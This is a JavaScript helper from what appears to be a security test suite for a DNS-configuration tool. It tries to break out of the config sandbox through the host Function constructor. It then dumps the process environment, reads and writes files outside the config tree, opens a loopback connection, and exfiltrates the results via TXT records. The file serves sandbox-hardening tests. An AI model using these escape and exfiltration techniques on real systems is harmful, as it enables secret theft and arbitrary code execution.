// Loaded by the attack configs (require("./lib/payload.js")). Given something that might be the host's
// Function constructor, tries everything an attacker wants: dnscode's process, its environment, a file
// outside the config's tree, a file written outside it, a connection to a loopback listener. Whatever it
// gets is put in a TXT record, so `preview` would print it (the exfiltration channel of a CI preview).
// The variables come from the test: -v PWNED_FILE=... -v OUTSIDE_FILE=... -v PORT=...
var REG = NewRegistrar("none");
var DSP = NewDnsProvider("bind");
var reported = 0;

function REPORT(label, value) {
  reported++;
  D("leak" + reported + "-" + label + ".example", REG, DnsProvider(DSP), TXT("@", String(value).slice(0, 3000) || "nothing"));
}

function PWN(F, label) {
  var p;
  try { p = F("return process")(); } catch (e) { REPORT(label, "blocked"); return; }
  if (!p || typeof p.pid !== "number") { REPORT(label, "no-process"); return; }
  TRY_PROCESS(p, label);
  try { F("f", "return import('node:fs').then(function (fs) { fs.writeFileSync(f, 'pwned'); })")(PWNED_FILE).catch(function () {}); } catch (e) {}
  try { F("port", "return import('node:net').then(function (net) { net.connect(port, '127.0.0.1').on('error', function () {}); })")(Number(PORT)).catch(function () {}); } catch (e) {}
  try {
    F("f", "return import('node:fs').then(function (fs) { return fs.readFileSync(f, 'utf8'); })")(OUTSIDE_FILE)
      .then(function (t) { REPORT(label + "-file", t); }, function () {});
  } catch (e) {}
  setTimeout(function () {}, 300);
}

// With a process object alone (no code generation): the environment, and the old ways to Node's internals.
function TRY_PROCESS(p, label) {
  if (!p || typeof p !== "object" && typeof p !== "function") return;
  try { REPORT(label + "-env", "HOST PROCESS " + JSON.stringify(p.env)); } catch (e) {}
  try { var fsb = p.binding("fs"); REPORT(label + "-binding", "BINDING " + typeof fsb); } catch (e) {}
  try { var r = p.mainModule && p.mainModule.require; if (r) { r("fs").writeFileSync(PWNED_FILE, "pwned"); r("net").connect(Number(PORT), "127.0.0.1").on("error", function () {}); REPORT(label + "-req", r("fs").readFileSync(OUTSIDE_FILE, "utf8")); } } catch (e) {}
  try { var g = p.getBuiltinModule && p.getBuiltinModule("fs"); if (g) { g.writeFileSync(PWNED_FILE, "pwned"); REPORT(label + "-gbm", g.readFileSync(OUTSIDE_FILE, "utf8")); } } catch (e) {}
}

// Any value an attack captured: a host function or object leads to the host's Function constructor.
function PWN_FROM(v, label) {
  if (v === undefined || v === null) { REPORT(label, "nothing-captured"); return; }
  var F;
  try { F = typeof v === "function" ? v.constructor : v.constructor.constructor; } catch (e) { REPORT(label, "no-constructor"); return; }
  if (typeof F !== "function") { REPORT(label, "no-constructor"); return; }
  PWN(F, label);
}
